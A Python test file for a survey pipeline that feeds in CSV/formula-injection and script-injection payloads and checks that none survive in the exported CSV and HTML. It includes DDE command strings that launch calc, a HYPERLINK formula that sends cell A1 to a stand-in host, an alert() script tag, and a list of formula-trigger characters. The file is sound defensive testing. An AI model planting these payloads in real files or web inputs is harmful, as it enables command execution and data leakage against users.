"""Formulas and markup in cells, labels and titles: text in everything that is written, and run by nothing."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path

from pipeline.ingest import number
from tests.study.conftest import HEADER, answers

CITIES = {"north": "=cmd|' /C calc'!A0", "south": "-SUM(1+1)*cmd|' /C calc'!A0"}
LABEL = '+HYPERLINK("http://x.example/"&A1) <script>alert(1)</script>'
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def study(folder: Path) -> Path:
    """A survey whose cities are formulas in the data, and whose titles and labels are others."""
    folder.mkdir()
    rows = [[*row[:9], CITIES[row[9]], row[10]] for row in answers(3)]
    with (folder / "answers.csv").open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows([HEADER, *rows])
    definition = {
        "study": {"title": f"=1+1 {LABEL}", "client": LABEL},
        "data": "answers.csv",
        "respondent": {"id": "person"},
        "scales": {"agree": {"points": 7, "ends": ["=no", "@yes"]}},
        "constructs": {
            "trust": {"items": {"t1": "=A1", "t2": LABEL, "t3": "@x"}, "label": "=trust"},
            "price": {"items": ["p1", "p2"], "label": LABEL},
            "brand": {"items": ["b1"], "label": "@brand"},
            "intent": {"items": ["i1", "i2"], "label": "-intent"},
        },
        "variables": {"city": {"label": "=city"}},
        "segments": ["city"],
        "model": {"outcome": "intent", "draws": 200},
    }
    (folder / "study.yaml").write_text(json.dumps(definition), encoding="utf-8")
    return folder


def run(*words: str) -> None:
    done = subprocess.run([sys.executable, "-m", "pipeline", *words], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr


def test_no_cell_of_what_is_written_is_a_formula(tmp_path: Path) -> None:
    folder = study(tmp_path / "formulas")
    run("report", str(folder), "--out", str(tmp_path / "out"), "--quiet")
    run("export", str(folder), "--out", str(tmp_path / "out" / "rows"))
    written = sorted((tmp_path / "out").rglob("*.csv"))
    assert len(written) > 5
    for path in written:
        with path.open(newline="", encoding="utf-8-sig") as file:
            cells = {cell for row in csv.reader(file) for cell in row}
        formulas = [cell for cell in cells if cell.startswith(STARTS) and number(cell) is None]
        assert not formulas, f"{path.name}: {formulas}"
    for path in (tmp_path / "out").rglob("*.html"):
        assert "<script>alert" not in path.read_text(encoding="utf-8")
